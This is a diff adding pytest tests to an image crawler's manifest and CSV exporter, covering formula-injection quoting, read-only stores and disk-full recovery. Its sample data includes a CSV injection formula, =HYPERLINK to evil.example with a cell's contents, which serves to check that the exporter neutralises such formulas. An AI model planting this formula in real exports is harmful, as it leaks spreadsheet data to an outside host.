@@ -3,10 +3,26 @@
 from __future__ import annotations
 
 import csv
+import hashlib
+import html
 import json
+import os
+import random
+import re
+import shutil
+import sqlite3
+import subprocess
+from io import BytesIO, StringIO
+from pathlib import Path
 
-from conftest import run_crawl
+import pytest
+
+from conftest import LocalSite, run_crawl
+from test_errors import unprivileged
+from imgcrawl.demo import make_image
+from imgcrawl.manifest import ManifestCsvItemExporter, ManifestFile, cut_torn_tail
 from imgcrawl.settings import FEED_EXPORT_FIELDS
+
 
 
 def test_manifest_jsonl_and_csv_have_the_documented_fields(demo_site, tmp_path):
@@ -33,3 +49,177 @@ def test_manifest_jsonl_and_csv_have_the_documented_fields(demo_site, tmp_path):
             assert int(row[name]) == line[name] > 0
         assert (result.store / line["path"]).stat().st_size == line["bytes"]
         assert json.loads(row["thumbs"]) == line["thumbs"] == {"small": line["thumbs"]["small"]}
+
+
+# Alt texts a hostile page might carry: each would run as a formula in a spreadsheet.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)"]
+
+
+def test_csv_cells_that_start_a_formula_are_quoted_jsonl_kept_exact(tmp_path):
+    rng = random.Random(5)
+    imgs = "".join(f'<img src="/img/{n}.jpg" alt="{html.escape(alt)}">' for n, alt in enumerate(FORMULAS))
+    imgs += '<img src="/img/t.jpg" alt="plain" title="=1+2">'  # a title too
+    files = {"/g/": ("text/html", f"<html><body>{imgs}</body></html>".encode())}
+    for name in [*map(str, range(len(FORMULAS))), "t"]:
+        files[f"/img/{name}.jpg"] = ("image/jpeg", make_image(rng, "jpg", name))
+    site = LocalSite(files).start()
+    try:
+        # Through the manifest storage: CSV rows go through ManifestFile as JSON lines do.
+        result = run_crawl(tmp_path, "-a", f"url={site.url('/g/')}", "-o", "images.csv")
+    finally:
+        site.stop()
+    assert result.returncode == 0, result.log[-3000:]
+    lines = {line["url"].rsplit("/", 1)[1]: line for line in result.manifest()}
+    with open(tmp_path / "images.csv", newline="", encoding="utf-8") as f:
+        rows = {row["url"].rsplit("/", 1)[1]: row for row in csv.DictReader(f)}
+    assert set(rows) == set(lines) == {f"{n}.jpg" for n in range(len(FORMULAS))} | {"t.jpg"}
+    for n, alt in enumerate(FORMULAS):
+        assert lines[f"{n}.jpg"]["alt"] == alt  # the manifest keeps what the page said
+        assert rows[f"{n}.jpg"]["alt"] == "'" + alt  # the spreadsheet shows it as text
+    assert (lines["t.jpg"]["title"], rows["t.jpg"]["title"]) == ("=1+2", "'=1+2")
+    assert rows["t.jpg"]["alt"] == "plain"
+    for row in rows.values():  # the other cells are untouched: numbers, URLs, JSON
+        assert row["url"].startswith("http://") and int(row["width"]) > 0
+        assert json.loads(row["thumbs"])["small"].startswith("thumbs/small/")
+
+
+def test_csv_exporter_quotes_tab_and_carriage_return_starts_too():
+    out = BytesIO()
+    exporter = ManifestCsvItemExporter(out, fields_to_export=["alt", "title", "width", "url"])
+    exporter.start_exporting()
+    exporter.export_item({"alt": "\t=cmd", "title": "\r@x", "width": -1, "url": "https://a.example/-x.jpg"})
+    exporter.finish_exporting()
+    row = next(csv.DictReader(StringIO(out.getvalue().decode())))
+    assert row == {"alt": "'\t=cmd", "title": "'\r@x", "width": "-1", "url": "https://a.example/-x.jpg"}
+
+
+def read_only(store: Path, how: str) -> tuple[str, ...]:
+    """A command prefix under which ``store`` cannot be written to: a read-only bind mount
+    (EROFS), or a directory without write bits, unprivileged (EACCES)."""
+    if how == "chmod":
+        store.chmod(0o555)
+        return unprivileged()
+    wrapper = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
+               'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && exec "$@"', str(store))
+    if not shutil.which("unshare") or subprocess.run([*wrapper, "true"]).returncode:
+        pytest.skip("cannot make a read-only bind mount here")
+    return wrapper
+
+
+@pytest.mark.parametrize("how", ["bind-mount", "chmod"])
+def test_read_only_store_with_a_half_written_manifest_one_line(demo_site, tmp_path, how):
+    store = tmp_path / "store"
+    store.mkdir()
+    manifest = store / "manifest.jsonl"
+    manifest.write_bytes(b'{"url": "https://a.example/1.jpg"}\n{"url": "https://a.example/2.j')
+    manifest.chmod(0o444)
+    before = manifest.read_bytes()
+    try:
+        result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=store,
+                           wrapper=read_only(store, how))
+    finally:
+        store.chmod(0o755)
+    errors = [line for line in result.log.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
+    assert len(errors) == 1, result.log[-3000:]
+    assert f"cannot write to IMAGES_STORE {store} (" in errors[0] and "-s IMAGES_STORE=" in errors[0]
+    assert "'finish_reason': 'store_not_writable'" in result.log and "Traceback" not in result.log
+    assert not any(p.startswith("/img/") for p in demo_site.hits)
+    assert manifest.read_bytes() == before  # left for a crawl that can write to cut it
+
+
+def stored_urls(store: Path) -> set[str]:
+    with sqlite3.connect(store / ".imgcrawl" / "index.sqlite") as db:
+        return {url for (url,) in db.execute("SELECT url FROM images")}
+
+
+def check_lines(store: Path, lines: list[dict]) -> None:
+    """Every stored image a line names is on disk: original (by digest) and thumbnail."""
+    for line in lines:
+        if line["status"] != "failed":
+            assert hashlib.sha256((store / line["path"]).read_bytes()).hexdigest() == line["sha256"], line
+            assert all((store / thumb).is_file() for thumb in line["thumbs"].values()), line
+
+
+def test_disk_full_with_the_manifest_in_the_store_one_line_and_whole_lines(demo_site, tmp_path):
+    """The store and its manifest on a 300 KiB tmpfs (a private mount namespace): the crawl
+    stops with one ERROR line, the manifest holds whole lines about files that are on disk,
+    and once there is room again the next crawl records every image."""
+    if not shutil.which("unshare"):
+        pytest.skip("needs unshare (util-linux) for a private tmpfs")
+    small, full, retried = tmp_path / "small", tmp_path / "after-full", tmp_path / "after-retry"
+    small.mkdir()
+    # Crawl with the disk filling up, keep a copy of the store, make room, crawl again.
+    script = (f'mount -t tmpfs -o size=300k tmpfs "$0" || exit 99; "$@"; cp -a "$0/store" {full}; '
+              f'echo "=== crawl again ===" >&2; mount -o remount,size=20m "$0" && "$@"; cp -a "$0/store" {retried}')
+    wrapper = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, str(small))
+    if subprocess.run([*wrapper[:-2], "mount -t tmpfs tmpfs \"$0\"", str(small)]).returncode:
+        pytest.skip("cannot mount a tmpfs in a user namespace here")
+    result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=small / "store",
+                       wrapper=wrapper)
+    first, _, second = result.log.partition("=== crawl again ===")
+    assert second, result.log[-3000:]
+
+    errors = [line for line in first.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
+    assert len(errors) == 1, first[-3000:]
+    assert f"IMAGES_STORE {small / 'store'} is full (" in errors[0]
+    assert "Traceback" not in first and "'finish_reason': 'disk_full'" in first
+    raw = (full / "manifest.jsonl").read_bytes()
+    assert raw and raw.endswith(b"\n") and b"\x00" not in raw, raw[-300:]
+    lines = [json.loads(line) for line in raw.decode().splitlines()]
+    check_lines(full, lines)
+    downloaded = {line["url"] for line in lines if line["status"] == "downloaded"}
+    indexed = stored_urls(full)
+    assert downloaded and downloaded <= indexed
+    # An image stored while its line could not be written is counted, never silently missing.
+    lost = re.search(r"'imgcrawl/manifest/lines_lost': (\d+)", first)
+    assert len(indexed - downloaded) <= (int(lost.group(1)) if lost else 0), (indexed - downloaded, lost)
+
+    assert " ERROR: " not in second and "'finish_reason': 'finished'" in second, second[-3000:]
+    lines = [json.loads(line) for line in (retried / "manifest.jsonl").read_text().splitlines()]
+    check_lines(retried, lines)
+    again = {line["url"]: line for line in lines[len(raw.splitlines()):]}  # the second crawl's lines
+    assert len(again) == 19 and indexed | {line["url"] for line in lines[: len(raw.splitlines())]} <= set(again)
+    assert {line["status"] for url, line in again.items() if not url.endswith("broken.jpg")} <= {"downloaded", "uptodate"}
+
+
+def test_read_only_manifest_in_a_writable_store_one_line(demo_site, tmp_path):
+    store = tmp_path / "store"
+    store.mkdir()
+    manifest = store / "manifest.jsonl"
+    manifest.write_bytes(b'{"url": "https://a.example/1.jpg"}\n')
+    manifest.chmod(0o444)
+    result = run_crawl(tmp_path, "-a", f"url={demo_site.url('/gallery/')}", store=store, wrapper=unprivileged(),
+                       )
+    errors = [line for line in result.log.splitlines() if " ERROR: " in line or " CRITICAL: " in line]
+    assert len(errors) == 1, result.log[-3000:]
+    assert f"cannot write the manifest {manifest} (Permission denied): give this user write permission" in errors[0]
+    assert "'finish_reason': 'store_not_writable'" in result.log and "Traceback" not in result.log
+    assert manifest.read_bytes() == b'{"url": "https://a.example/1.jpg"}\n'
+
+
+def test_torn_line_is_taken_back_only_while_it_is_the_end(tmp_path):
+    path = tmp_path / "manifest.jsonl"
+    path.write_bytes(b'{"a": 1}\n{"b": ')
+    fd = os.open(path, os.O_RDWR | os.O_APPEND)
+    try:
+        cut_torn_tail(fd, b'{"b": ')
+        assert path.read_bytes() == b'{"a": 1}\n'
+        # Another crawl appended after the torn start: not ours to cut (repair_jsonl's job).
+        os.write(fd, b'{"c": ')
+        os.write(fd, b'{"d": 4}\n')
+        cut_torn_tail(fd, b'{"c": ')
+        assert path.read_bytes() == b'{"a": 1}\n{"c": {"d": 4}\n'
+    finally:
+        os.close(fd)
+
+
+def test_manifest_file_writes_each_line_at_once(tmp_path):
+    path = tmp_path / "manifest.jsonl"
+    errors = []
+    file = ManifestFile(os.open(path, os.O_RDWR | os.O_CREAT | os.O_APPEND), lambda *error: errors.append(error))
+    file.write(b'{"a": 1}\n')
+    assert path.read_bytes() == b'{"a": 1}\n'  # on disk before the feed is closed
+    file.close()
+    assert errors == [] and file.closed
+    lost = ManifestFile(None, lambda *error: errors.append(error))  # could not be opened
+    assert lost.write(b'{"b": 2}\n') == 9 and errors == [(None, 1)]  # a line lost, counted
